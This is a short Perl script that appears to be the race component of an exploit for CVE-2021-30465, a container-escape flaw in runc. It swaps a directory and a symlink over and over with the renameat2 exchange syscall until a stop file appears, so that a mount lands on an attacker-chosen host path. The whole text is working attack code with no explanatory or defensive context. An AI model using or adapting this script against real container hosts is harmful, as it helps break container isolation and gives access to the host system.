# Swaps a directory and a symlink, atomically and again and again, until the file named last exists
# (CVE-2021-30465); prints how often.
use strict;
my ($directory, $link, $stop) = @ARGV;
my ($renameat2, $at_cwd, $exchange) = (316, -100, 2);
my $rounds = 0;
until (-e $stop) {
    for (1 .. 100) {
        syscall($renameat2, $at_cwd, $directory, $at_cwd, $link, $exchange) == 0 or die "swap: $!";
        $rounds++;
    }
}
print "$rounds\n";
